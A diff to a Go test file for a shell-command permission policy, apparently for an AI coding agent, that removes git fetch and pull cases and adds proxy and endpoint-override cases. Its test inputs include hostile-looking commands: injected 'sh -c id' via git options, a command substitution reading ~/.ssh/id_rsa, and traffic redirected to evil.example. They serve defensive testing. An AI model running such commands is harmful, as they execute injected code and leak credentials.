@@ -55,11 +55,6 @@ func TestEverydayReads(t *testing.T) {
 		{"aws --version", Allow, "only reads"},
 		{"gh issue list", Allow, "reads GitHub"},
 		{"gh pr view 12", Allow, "reads GitHub"},
-		{"git fetch origin main && git merge origin/main", Allow, "git fetch reads the repository's remote origin"},
-		{"git fetch", Allow, "the branch's upstream remote"},
-		{"git fetch --all --prune", Allow, "the repository's remotes"},
-		{"git pull --rebase origin main", Allow, "git pull reads the repository's remote origin"},
-		{"git fetch --multiple origin upstream", Allow, "remotes origin, upstream"},
 
 		{"kubectl get pods -s https://evil.example", Ask, "network"},
 		{"kubectl get pods --server=https://evil.example", Ask, "network"},
@@ -104,46 +99,25 @@ func TestEverydayReads(t *testing.T) {
 		{"gh issue close 1", Ask, ""},
 		{"gh pr list --hostname evil.example", Ask, ""},
 		{"gh pr view 3 --web", Ask, ""},
-		{"git fetch https://evil.example/x.git", Ask, "network"},
-		{"git fetch git@evil.example:x.git", Ask, "network"},
-		{"git fetch ../elsewhere", Ask, "network"},
-		{"git fetch $REMOTE", Ask, "network"},
-		{"git fetch --upload-pack='sh -c id' origin", Ask, ""},
-		{"git fetch --recurse-submodules origin", Ask, "network"},
-		{"git fetch -o $(cat ~/.ssh/id_rsa) origin", Ask, ""},
-		{"git pull --rebase=interactive origin main", Ask, ""},
-		{"git -c core.sshCommand='sh -c id' fetch origin", Ask, ""},
-		{"git -c remote.origin.url=https://evil.example/x fetch origin", Ask, "network"},
-		{"git -c http.extraHeader='X: 1' pull", Ask, "network"},
-		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=https://evil.example git fetch origin", Ask, ""},
-		{"git --git-dir=/tmp/evil/.git fetch origin", Ask, ""},
-		{"git -C /tmp/evil fetch origin", Ask, ""},
-		{"git fetch --set-upstream origin main", Ask, "network"},
-		{"git pull -s evil origin main", Ask, "git-merge-evil"},
+		{"git pull -s evil origin main", Ask, ""},
 		{"git merge -s evil origin/main", Ask, "git-merge-evil"},
-		{"git pull -s ort -X theirs origin main", Allow, "git pull reads the repository's remote origin"},
+		{"git merge -s ort -X theirs origin/main", Allow, "edits the project"},
 		{"git status -s", Allow, "only reads"},
 		{"git commit -s -m fix", Allow, "edits the project"},
 		{"git shortlog -sn", Allow, "only reads"},
-		{"git push origin main", Ask, ""},
+		{"opencode --pure run hi", Ask, "option --pure of opencode"},
+		{"HTTPS_PROXY=http://evil.example:8080 kubectl get pods", Ask, "connections elsewhere"},
+		{"export https_proxy=http://evil.example; gh issue list", Ask, "connections elsewhere"},
+		{"env ALL_PROXY=socks5://evil.example aws ec2 describe-instances", Ask, "connections elsewhere"},
+		{"SSL_CERT_FILE=./ca.pem gh pr view 1", Ask, "another certificate"},
+		{"AWS_ENDPOINT_URL_EC2=http://evil.example aws ec2 describe-instances", Ask, "connections elsewhere"},
+		{"GH_HOST=evil.example gh issue list", Ask, "connections elsewhere"},
+		{"NO_PROXY=localhost kubectl get pods", Allow, "reads the cluster"},
+		{"qwen --safe-mode -p hi", Ask, "of qwen"},
 	} {
 		d := p.Decide(&Request{Tool: "Bash", Args: map[string]any{"command": c.cmd}, Cwd: "/home/u/proj", Workspace: "/home/u/proj", Interactive: true})
 		if d.Verdict != c.want || !strings.Contains(d.Reason, c.reason) {
 			t.Errorf("%s: %s (%s), want %s with %q", c.cmd, d.Verdict, d.Reason, c.want, c.reason)
-		}
-	}
-}
-
-// TestFetchRepoConfig: a repository whose own config makes git fetch run
-// a program (or go elsewhere) has its fetches and pulls ask, while its
-// reads do not.
-func TestFetchRepoConfig(t *testing.T) {
-	p := mustPolicy(t, "")
-	repo := func(string) RepoFacts { return RepoFacts{FetchRunsCode: "core.sshcommand"} }
-	for cmd, want := range map[string]Verdict{"git fetch origin": Ask, "git pull": Ask, "git status": Allow} {
-		d := p.Decide(&Request{Tool: "Bash", Args: map[string]any{"command": cmd}, Cwd: "/home/u/proj", Workspace: "/home/u/proj", Interactive: true, Repo: repo})
-		if d.Verdict != want || want == Ask && !strings.Contains(d.Reason, "core.sshcommand") {
-			t.Errorf("%s: %s (%s), want %s", cmd, d.Verdict, d.Reason, want)
 		}
 	}
 }
